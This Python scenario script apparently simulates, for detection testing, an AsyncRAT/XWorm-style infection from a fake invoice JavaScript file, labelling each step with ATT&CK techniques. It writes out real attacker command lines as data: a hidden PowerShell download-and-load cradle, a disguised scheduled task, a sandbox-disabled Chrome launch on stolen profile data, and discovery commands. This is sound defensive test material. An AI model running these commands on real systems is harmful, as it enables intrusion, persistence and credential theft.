"""A script from the downloads has PowerShell fill the ASP.NET compiler, which stays under control on an odd port, logs keys,
watches by camera and microphone and copies itself to a stick. Resembles the XWorm and AsyncRAT chains of 2023-2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-05-16T08:55:12", "user": "CONTABIL\\rafael", "home": "C:\\Users\\rafael", "computer": "CONTABIL"}
PUBLIC = r"C:\Users\Public"
COMPILER = r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\aspnet_compiler.exe"
CONSENT = (r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion"
           r"\CapabilityAccessManager\ConsentStore\%s\NonPackaged"
           r"\C:#Windows#Microsoft.NET#Framework#v4.0.30319#aspnet_compiler.exe")
CONTROL = ("203.0.113.201", 7000)
PASTE = ("203.0.113.66", 443)


def watch(c, consent, rat, device):
    """The consent store is written by the capability service for the program that opens the device."""
    key = CONSENT % device
    c.key(consent, key, new=True)
    c.set_value(consent, key + r"\LastUsedTimeStart", "REG_BINARY", bytes(8))
    c.exchange(rat, CONTROL, c.random.randint(50000, 60000), [14_600] * 8, [90])
    c.set_value(consent, key + r"\LastUsedTimeStop", "REG_BINARY", bytes(8))


def story(c):
    desktop = Desktop(c)
    c.host(PASTE[0], "bitbucket.org")
    c.host(CONTROL[0], "nota.fiscal-web.example")
    consent = c.system(c.system_root + r"\System32\svchost.exe",
                       c.system_root + r"\System32\svchost.exe -k appmodel -p -s camsvc",
                       parent=desktop.services)
    desktop.murmur(7)
    script = c.home + r"\Downloads\Nota_Fiscal_55120.js"
    host = deeds.tool(c, desktop.explorer, '"C:\\Windows\\System32\\WScript.exe" "%s"' % script)
    c.read(host, script, 240_000)
    line = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden '
            '-ExecutionPolicy '
            'Bypass -Command "$w=New-Object Net.WebClient;$t=$w.DownloadString(\'https://bitbucket.org/nfe55/a/raw/x.txt\');'
            '[Reflection.Assembly]::Load([Convert]::FromBase64String($t))"')
    with deeds.told(c, "a downloaded script starts PowerShell hidden, which loads fetched code into itself", "high",
                    ("T1059.001", "T1059.007", "T1620", "T1564.003", "T1204.002"), host,
                    ("DownloadString", "Nota_Fiscal_55120.js", "powershell.exe")) as helpers:
        shell = deeds.tool(c, host, line)
        helpers.append(shell)
    c.exit(host)
    desktop.resolve()
    with c.behaviour("fetches its next stage from a place for source code", "low", ("T1105", "T1102", "T1071.001"), shell,
                     "bitbucket.org"):
        c.exchange(shell, PASTE, 50400, [520, 310], [14_600] * 16)
    with c.behaviour("leaves scripts in the folder of all users", "medium",
                     ("T1105", "T1059.001", "T1059.003", "T1074.001"), shell,
                     ("msgupd.ps1", "msgupd.bat", "msgupd.vbs")):
        for name, size in (("msgupd.ps1", 230_000), ("msgupd.bat", 190), ("msgupd.vbs", 310)):
            c.drop(shell, PUBLIC + "\\" + name, size)
    with deeds.told(c, "registers a task that runs the script every other minute", "high", "T1053.005", shell,
                    ("MicrosoftEdgeUpdateTaskMachineQC", "msgupd.vbs")) as helpers:
        helpers += deeds.command(c, shell,
                                 'schtasks.exe /create /sc minute /mo 2 /tn "MicrosoftEdgeUpdateTaskMachineQC" /tr '
                                 r'"wscript.exe C:\Users\Public\msgupd.vbs" /f', shell=False)
        deeds.task(c, desktop, "MicrosoftEdgeUpdateTaskMachineQC", 11)
    shortcut = c.home + r"\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\msgupd.lnk"
    with c.behaviour("puts a shortcut where programs start from with the log-on", "medium", ("T1547.001", "T1547.009"),
                     shell, "msgupd.lnk"):
        c.drop(shell, shortcut, 1400)
    with deeds.told(c, "starts the ASP.NET compiler without work, and puts its code into it", "medium",
                    ("T1055.012", "T1055", "T1055.002", "T1218"), shell, "aspnet_compiler.exe") as helpers:
        rat = c.spawn(shell, COMPILER, '"%s"' % COMPILER, is_64bit=False, **deeds.MICROSOFT)
        helpers.append(rat)
        deeds.thread(c, rat)
    deeds.begin(c, rat)
    c.load(rat, r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\clr.dll", 0x70000000)
    c.exit(shell)
    desktop.murmur(3)
    # The task runs for the first time, finds that it is there, and ends.
    again = deeds.tool(c, desktop.scheduler, r"wscript.exe C:\Users\Public\msgupd.vbs", user=c.user, integrity="Medium",
                       session=1,
                       sid=desktop.explorer.sid)
    c.read(again, PUBLIC + r"\msgupd.vbs", 310)
    second = deeds.tool(c, again, r'"C:\Windows\System32\cmd.exe" /c C:\Users\Public\msgupd.bat')
    c.read(second, PUBLIC + r"\msgupd.bat", 190)
    third = deeds.tool(c, second, r"powershell.exe -ep bypass -w hidden -File C:\Users\Public\msgupd.ps1")
    c.read(third, PUBLIC + r"\msgupd.ps1", 230_000)
    for process in (third, second, again):
        c.exit(process)
    c.query(rat, r"HKLM\HARDWARE\DESCRIPTION\System\CentralProcessor\0\ProcessorNameString", "REG_SZ", "Virtual CPU")
    with c.behaviour("the compiler asks a server again and again on an odd port", "medium",
                     ("T1571", "T1095", "T1071", "T1573"), rat, ("nota.fiscal-web.example", "7000")):
        for number in range(5):
            c.exchange(rat, CONTROL, 50500 + number, [420, 60], [180, 40])
            c.wait(10)
    with c.behaviour("keeps its plug-ins in the registry", "medium", ("T1027.011", "T1112"), rat, "8D1F44B0C2"):
        key = r"HKCU\Software\8D1F44B0C2"
        c.key(rat, key, new=True)
        for name in ("B7E0A9", "3C55D1"):
            c.exchange(rat, CONTROL, 50520, [80], [14_600] * 6)
            c.set_value(rat, key + "\\" + name, "REG_BINARY", bytes(range(256)) * 40)
    with c.behaviour("writes down the keys pressed", "low", "T1056.001", rat, "Log.tmp"):
        log = c.home + r"\AppData\Local\Temp\Log.tmp"
        c.drop(rat, log, 40)
        for number in range(12):
            c.open(rat, log, 0x120116, 3)
            c.write_at(rat, log, 40 + 24 * number, 24)
            c.close(rat, log)
            c.wait(2)
    with c.behaviour("looks through the camera", "medium", "T1125", (rat, consent), ("webcam", "aspnet_compiler")):
        watch(c, consent, rat, "webcam")
    with c.behaviour("listens by the microphone", "medium", "T1123", (rat, consent), ("microphone", "aspnet_compiler")):
        watch(c, consent, rat, "microphone")
    with deeds.told(c, "gives a stranger a shell", "medium", ("T1059.003", "T1033"), rat, ("cmd.exe", "whoami")) as helpers:
        prompt = deeds.tool(c, rat, "cmd.exe")
        helpers.append(prompt)
        helpers += deeds.command(c, prompt, "whoami /priv", shell=False)
        helpers += deeds.command(c, prompt, "net user", shell=False)
    with deeds.told(c, "copies the browser's profile and starts a browser out of sight with it", "medium",
                    ("T1185", "T1539", "T1555.003", "T1564.003"), rat, ("ChromeData", "user-data-dir")) as helpers:
        profile, copy = c.home + r"\AppData\Local\Google\Chrome\User Data", c.home + r"\AppData\Local\Temp\ChromeData"
        c.folder(rat, copy)
        for name, size in (("Local State", 80_000), (r"Default\Login Data", 46_000), (r"Default\Network\Cookies", 120_000),
                           (r"Default\Web Data", 90_000), (r"Default\Preferences", 20_000)):
            c.read(rat, profile + "\\" + name, size)
            c.drop(rat, copy + "\\" + name, size)
        browser = c.spawn(rat, r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                          'chrome.exe --no-sandbox --allow-no-sandbox-job --disable-3d-apis --user-data-dir="%s"' % copy,
                          company="Google LLC")
        helpers.append(browser)
        c.exit(browser)
    with c.behaviour("copies itself to a stick", "high", "T1091", rat, ("USB.exe", "H:")):
        deeds.list_folder(c, rat, "H:\\")
        c.drop(rat, r"H:\USB.exe", 68_000)
        c.attributes(rat, r"H:\USB.exe", 0x26)
        c.drop(rat, r"H:\Clientes.lnk", 1100)
        c.attributes(rat, r"H:\Clientes", 0x16)
    desktop.murmur(5)
